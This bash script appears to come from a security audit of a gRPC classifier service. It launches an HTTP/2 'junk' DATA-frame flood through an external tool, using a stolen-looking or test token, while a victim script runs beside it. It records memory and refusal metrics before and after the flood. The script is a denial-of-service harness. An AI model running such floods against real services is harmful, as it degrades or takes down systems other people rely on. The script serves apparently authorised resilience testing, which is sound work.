#!/usr/bin/env bash
# junk32.sh DIR WHO FILE CONNS SECS [PATH] (thirty-second pass): pass 31 finding 1's junk flood (h2ctl20 refused mode,
# FILE a gRPC body, 1 KiB DATA frames, one call in flight a connection) with bob's victim16a.py beside; prints the
# unread-DATA, refusal and heap metrics before and after, and VmHWM.
D=$1; W=$2; F=$3; C=$4; S=$5; P=${6:-/classifier.v1.ClassifierService/GetIndexInfo}
. $D/env; T=$(awk -v w=$W '$1==w{print $3}' $D/tokens)
met() { curl -s http://$METRICS/metrics | grep -E '^classifierd_grpc_unread_data_bytes_total|^go_memstats_heap_alloc_bytes |^classifierd_grpc_body_rate_closes_total|^classifierd_.*refus.*total' | tr '\n' ' '; echo; }
echo "== $D $W $F conns $C $(date +%T) load $(cut -d' ' -f1 /proc/loadavg)"; met
(sleep 1; nice -n 10 python3 $(cd "$(dirname "$0")" && pwd)/victim16a.py $D $((S-2)) bob) &
timeout $((S+20)) nice -n 10 /tmp/p28/h2ctl20 -addr $GRPC -path $P -mode refused -token $T -bodyfile $F -ctype application/grpc -frame 1024 -per 48 -conns $C -inflight 1 -secs $S -pid $PID 2>&1 | tail -4
wait; met; grep -E VmHWM /proc/$PID/status
